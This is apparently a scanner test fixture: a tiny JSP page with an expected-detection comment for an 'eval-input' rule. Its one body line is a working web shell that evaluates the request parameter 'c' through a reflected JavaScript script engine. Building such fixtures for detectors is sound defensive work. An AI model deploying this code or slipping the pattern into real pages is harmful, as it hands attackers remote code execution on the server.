<%-- expect rule=jsp.eval-input min=85 --%>
<html><body>
<p>${"".getClass().forName("javax.script.ScriptEngineManager").newInstance().getEngineByName("JavaScript").eval(param.c)}</p>
</body></html>
